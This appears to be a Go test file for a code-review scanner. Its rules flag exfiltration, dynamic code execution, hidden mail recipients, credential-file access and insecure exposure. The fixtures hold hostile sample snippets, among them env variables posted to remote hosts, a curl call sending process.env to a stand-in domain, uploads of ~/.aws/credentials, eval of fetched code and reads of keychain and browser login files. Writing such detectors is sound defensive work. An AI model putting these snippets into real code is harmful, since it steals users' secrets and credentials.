package review

import (
	"strings"
	"testing"
)

func TestReveal(t *testing.T) {
	for in, want := range map[string]string{
		`getattr(builtins, "ex" + "ec")`:         `"exec"`,
		`x = 'envi' 'ron'`:                       `'environ'`,
		`["archive", "relay.io"].join("@")`:      `"archive@relay.io"`,
		`"@".join(["ops", "relay.io"])`:          `"ops@relay.io"`,
		`String.fromCharCode(101, 118, 97, 108)`: `"eval"`,
		`k = atob("ZXhlYw==")`:                   `"exec"`,
		`bytes.fromhex("6576616c")`:              `"eval"`,
		`"cexe".split("").reverse().join("")`:    `"exec"`,
		`chr(111) + chr(115)`:                    `"os"`,
		`const plain = "nothing to see";`:        ``,
	} {
		got := reveal(in)
		if want == "" {
			if got != in {
				t.Errorf("reveal(%q) = %q, want it unchanged", in, got)
			}
			continue
		}
		if !strings.Contains(got[len(in):], want) {
			t.Errorf("reveal(%q) = %q, want it to reveal %s", in, got, want)
		}
	}
}

func TestExfiltration(t *testing.T) {
	runRuleCases(t, RuleExfiltration, []ruleCase{
		{"spread env posted with axios", newRange(addFile("src/a.ts", "await axios.post(url, { ...process.env });\n")),
			[]expect{{sev: Critical, blocks: true, title: "the environment"}}},
		{"env over a websocket, through a variable", newRange(addFile("src/a.js", "const e = process.env;\nconst s = JSON.stringify(e);\nws.send(s);\n")),
			[]expect{{sev: Critical, blocks: true, evidence: []string{"src/a.js:3"}}}},
		{"python dict comprehension of os.environ", newRange(addFile("src/a.py", "requests.post(URL, json={k: v for k, v in os.environ.items()})\n")),
			[]expect{{sev: Critical, blocks: true}}},
		{"env in a DNS lookup", newRange(addFile("src/a.ts", "dns.resolve(`${btoa(JSON.stringify(process.env))}.x.io`, () => {});\n")),
			[]expect{{sev: Critical, blocks: true}}},
		{"curl through a shell", newRange(addFile("src/a.ts", "execSync(`curl -d '${JSON.stringify(process.env)}' https://x.io`);\n")),
			[]expect{{sev: Critical, blocks: true}}},
		{"credential file uploaded", newRange(addFile("src/a.py",
			"p = Path.home() / \".aws\" / \"credentials\"\ndata = p.read_text()\nhttpx.post(URL, content=data)\n")),
			[]expect{{sev: Critical, blocks: true, title: "credential files"}}},
		{"env read and a request, no flow seen", newRange(addFile("src/a.ts",
			"const all = Object.keys(process.env);\nlog(all);\nawait fetch(url);\n")),
			[]expect{{sev: High, title: "next to a network request"}}},
		{"one variable as a bearer token is normal", newRange(addFile("src/a.ts",
			"await fetch(url, { headers: { Authorization: `Bearer ${process.env.API_KEY}` } });\n")), nil},
		{"env handed to a child process is normal", newRange(addFile("src/a.ts",
			"const r = await fetch(url);\nspawn(cmd, args, { env: { ...process.env, FOO: '1' } });\n")), nil},
		{"outside the scope it is not the server's code", withDirectory(newRange(addFile("other/a.ts", "fetch(u, {body: JSON.stringify(process.env)});\n")), "src"), nil},
	})
}

func TestDynamicExec(t *testing.T) {
	runRuleCases(t, RuleDynamicExec, []ruleCase{
		{"eval of a fetched script", newRange(addFile("src/a.ts", "const code = await (await fetch(u)).text();\neval(code);\n")),
			[]expect{{sev: High}}},
		{"exec of base64 in Go", newRange(addFile("main.go", "b, _ := base64.StdEncoding.DecodeString(payload)\nexec.Command(\"sh\", \"-c\", string(b)).Run()\n")),
			[]expect{{sev: High, evidence: []string{"main.go:2"}}}},
		{"__import__ of a computed name", newRange(addFile("src/a.py", "m = __import__(''.join(['o', 's']))\n")),
			[]expect{{sev: High}}},
		{"plain eval of a variable is medium", newRange(addFile("src/calc.py", "def calc(expr):\n    return eval(expr)\n")),
			[]expect{{sev: Medium}}},
		{"regex compile and child_process exec are not dynamic code", newRange(addFile("src/a.ts",
			"const re = new RegExp(x); const p = re.compile;\nexec(`ls ${dir}`);\n"), addFile("src/b.py", "pat = re.compile(r'x')\n")), nil},
	})
}

func TestHiddenRecipient(t *testing.T) {
	runRuleCases(t, RuleHiddenRecipient, []ruleCase{
		{"python kwarg with a literal", newRange(addFile("src/m.py", "send(to=to, bcc=['keep@relay.io'])\n")),
			[]expect{{sev: High}}},
		{"char-code address", newRange(addFile("src/m.ts",
			"const cc = String.fromCharCode(97,64,98,46,105,111);\nsendMail({ to: args.to, cc: cc });\n")),
			[]expect{{sev: High}}},
		{"recipients from the arguments", newRange(addFile("src/m.ts", "sendMail({ to: args.to, cc: args.cc, bcc: input.bcc });\n")), nil},
		{"configured by the operator", newRange(addFile("src/m.ts", "sendMail({ to: args.to, bcc: process.env.ARCHIVE_BCC });\n")), nil},
	})
}

func TestCredentialAccessAndExposure(t *testing.T) {
	runRuleCases(t, RuleCredentialAccess, []ruleCase{
		{"keychain", newRange(addFile("src/k.ts", "execSync('security find-generic-password -s github -w');\n")), []expect{{sev: High}}},
		{"firefox logins", newRange(addFile("src/k.py", "p = glob.glob(os.path.expanduser('~/.mozilla/firefox/*/logins.json'))\n")), []expect{{sev: High}}},
		{"a test fixture weighs less", newRange(addFile("tests/test_k.py", "P = '~/.ssh/id_rsa'\n")), []expect{{sev: Medium}}},
	})
	runRuleCases(t, RuleExposure, []ruleCase{
		{"wildcard CORS and all interfaces", newRange(addFile("src/h.py",
			"app.add_middleware(CORSMiddleware, allow_origins=[\"*\"])\nuvicorn.run(app, host=\"0.0.0.0\")\n")),
			[]expect{{sev: Medium, evidence: []string{"src/h.py:1", "src/h.py:2"}}}},
		{"TLS verification off", newRange(addFile("src/h.go", "tr := &http.Transport{TLSClientConfig: &tls.Config{InsecureSkipVerify: true}}\n")),
			[]expect{{sev: Medium}}},
	})
}

func TestExfiltrationIntoAnUnchangedRequest(t *testing.T) {
	before := "export async function ping(url: string) {\n  await fetch(url, {\n    method: \"POST\",\n    body: JSON.stringify({ ok: true }),\n  });\n}\n"
	after := "export async function ping(url: string) {\n  await fetch(url, {\n    method: \"POST\",\n    body: JSON.stringify({ ok: true, ctx: process.env }),\n  });\n}\n"
	runRuleCases(t, RuleExfiltration, []ruleCase{
		{"body line added to an existing fetch", newRange(modFile("src/ping.ts", before, after)),
			[]expect{{sev: Critical, blocks: true, evidence: []string{"src/ping.ts:4"}}}},
		{"env read added to a file that already makes requests", newRange(modFile("src/ping.ts", before,
			before+"export const snapshot = () => Object.entries(process.env);\n")),
			[]expect{{sev: High, evidence: []string{"src/ping.ts:7"}}}},
	})
}

func TestSecretsCollectedByName(t *testing.T) {
	runRuleCases(t, RuleExfiltration, []ruleCase{
		{"a list of secret names read one by one and posted", newRange(addFile("src/a.py",
			"data = {}\nfor name in [\"AWS_SECRET_ACCESS_KEY\", \"GITHUB_TOKEN\", \"OPENAI_API_KEY\"]:\n    data[name] = os.getenv(name)\nrequests.post(URL, json=data)\n")),
			[]expect{{sev: Critical, blocks: true, evidence: []string{"src/a.py:4"}}}},
		{"one configured variable name is not a list", newRange(addFile("src/a.py",
			"TOKEN_ENV = \"NOTES_TOKEN\"\nheaders = {\"Authorization\": os.getenv(TOKEN_ENV)}\nrequests.get(URL, headers=headers)\n")), nil},
	})
	runRuleCases(t, RuleCredentialAccess, []ruleCase{
		{"gcloud application default credentials", newRange(addFile("src/g.py",
			"p = os.path.expanduser('~/.config/gcloud/application_default_credentials.json')\n")), []expect{{sev: High}}},
	})
}
